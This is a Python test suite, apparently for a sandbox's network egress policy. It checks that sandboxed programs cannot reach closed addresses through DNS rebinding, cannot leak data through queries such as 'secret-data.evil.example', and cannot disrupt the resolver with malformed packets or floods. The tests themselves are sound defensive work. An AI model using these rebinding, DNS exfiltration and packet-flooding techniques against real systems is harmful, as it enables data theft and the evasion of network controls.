"""Programs that try to reach closed addresses, or to carry data out, by way of names."""

from __future__ import annotations

import errno
import json

from network_attempts import INTERNET, TRY, attempt
from network_world import GATEWAY, HOST_LAN, HOST_PUBLIC, METADATA, PRIVATE, WEB, World
from sealed import Box

from sandbox import NetworkPolicy


def test_names_that_lead_to_closed_addresses(egress: Box, world: World) -> None:
    """DNS rebinding: first a good address, then one of ours."""
    closed = {
        "loop.evil.example": "127.0.0.1",
        "inner.evil.example": PRIVATE,
        "meta.evil.example": METADATA,
        "self.evil.example": HOST_PUBLIC,
        "slots.evil.example": "198.18.0.1",
        "docs.evil.example": "203.0.113.80",
    }
    for name, address in closed.items():
        world.zone[name] = lambda address=address: [address]  # type: ignore[misc]
    world.zone["both.evil.example"] = lambda: [METADATA, WEB]
    world.zone["alias.evil.example"] = lambda: ["=meta.evil.example"]
    world.zone["turning.evil.example"] = lambda: (
        [f"{HOST_LAN}/0"] if (WEB, 80) in world.arrived else [f"{WEB}/0"]
    )
    source = f"""
closed = {json.dumps([*closed, "alias.evil.example"])}
seen = [tried(lambda: socket.gethostbyname(name)) for name in closed]
both = tried(lambda: socket.gethostbyname("both.evil.example"))
first = tried(lambda: reach("turning.evil.example", 80)).split()[0]
again = tried(lambda: reach("turning.evil.example", 80))
direct = [tried(lambda: reach(a, 80)) for a in ("{HOST_LAN}", "{METADATA}", "{PRIVATE}")]
say(seen, both, first, again, direct)
"""
    for policy in (INTERNET, NetworkPolicy("allow", ("*.evil.example",))):
        world.arrived.clear()
        seen, both, first, again, direct = attempt(egress, source, policy).seen
        assert set(seen) == {-5}
        assert (both, first, again) == (WEB, WEB, -5)
        assert direct == [errno.ECONNREFUSED] * 3
        assert set(world.arrived) - {(GATEWAY, 53)} == {(WEB, 80)}


def test_names_by_tcp_and_other_kinds_of_question(egress: Box, world: World) -> None:
    world.zone["web.example"] = lambda: [WEB]
    result = attempt(
        egress,
        """
def by_tcp(data, count=1):
    with socket.create_connection(("198.18.0.1", 53), timeout=6) as s:
        s.sendall((len(data).to_bytes(2, "big") + data) * count)
        answers = []
        for _ in range(count):
            length = int.from_bytes(s.recv(2, socket.MSG_WAITALL), "big")
            answer = s.recv(length, socket.MSG_WAITALL)
            answers.append([answer[3] & 15, int.from_bytes(answer[6:8], "big")])
        return answers
say(by_tcp(question("web.example"), 3), by_tcp(question("secret-data.evil.example")),
    *(ask("web.example", kind) for kind in (28, 16, 15, 255, 252, 65)),
    ask("secret.evil.example", 16))
""",
        NetworkPolicy("allow", ("web.example",)),
    )
    by_tcp, refused, *others = result.seen
    assert by_tcp == [[0, 1]] * 3
    assert refused == [[3, 0]]
    assert others == [[0, 0]] * 6 + [[3, 0]]
    assert set(world.asked) == {"web.example"}


def test_malformed_and_huge_questions(egress: Box, world: World) -> None:
    world.zone["web.example"] = lambda: [WEB]
    result = attempt(
        egress,
        r"""
head = struct.pack("!HHHHHH", 1, 0x100, 1, 0, 0, 0)
bad = [b"", b"x", head[:11], head, head + b"\xc0\x0c\0\1\0\1", head + b"\x3f" * 70,
       head + b"\1a" * 200 + b"\0\0\1\0\1", head + b"\1.\0\0\1\0\1", head + b"\2\xff\xfe\0\0\1\0\1",
       struct.pack("!HHHHHH", 1, 0x8180, 1, 0, 0, 0) + b"\1a\0\0\1\0\1",
       struct.pack("!HHHHHH", 1, 0x2800, 1, 0, 0, 0) + b"\1a\0\0\1\0\1",
       struct.pack("!HHHHHH", 1, 0x100, 65535, 65535, 65535, 65535) + os.urandom(40000),
       *(os.urandom(n) for n in range(1, 120))]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("198.18.0.1", 53))
for data in bad:
    tried(lambda: s.send(data) and None)  # 40,000 bytes do not leave, as a datagram
streams = [socket.create_connection(("198.18.0.1", 53)) for _ in range(8)]
for stream, data in zip(streams, bad[4:]):
    tried(lambda: stream.sendall(b"\xff\xff" + data) and None)
say(ask("web.example"), tried(lambda: reach("web.example", 80)).split()[0])
""",
    )
    assert result.seen == [[0, 1], WEB]
    assert egress.run(TRY + "say(ask('web.example'))", network=INTERNET).seen == [[0, 1]]


def test_a_flood_of_questions_does_not_hold_up_others(egress: Box, world: World) -> None:
    world.zone["web.example"] = lambda: [WEB]
    flood = egress.start(
        TRY
        + """
print("up", flush=True)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("198.18.0.1", 53))
n = 0
while True:
    n += 1
    tried(lambda: s.send(question(f"x{n}.silent.example")) and None)
""",
        network=INTERNET,
        cpu_millis=300,
    )
    flood.wait_for("up")
    result = attempt(
        egress,
        """
say(*ask("web.example"))
""",
    )
    flood.sandbox.kill()
    flood.finish()
    assert result.seen == [0, 1]


def test_questions_are_paced(egress: Box) -> None:
    live = egress.start(
        TRY
        + """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("198.18.0.1", 53))
begun = time.monotonic()
for _ in range(200):
    for _ in range(20):
        tried(lambda: s.send(question("evil.example")) and None)
    time.sleep(0.001)
say(time.monotonic() - begun)
""",
        network=NetworkPolicy("allow", ("web.example",)),
    )
    sandbox = live.sandbox
    (taken_s,) = live.finish().seen
    answered = sum(r.count for r in sandbox.take_refusals() if r.protocol == "dns")
    assert 100 < answered <= 200 + 200 * taken_s + 50
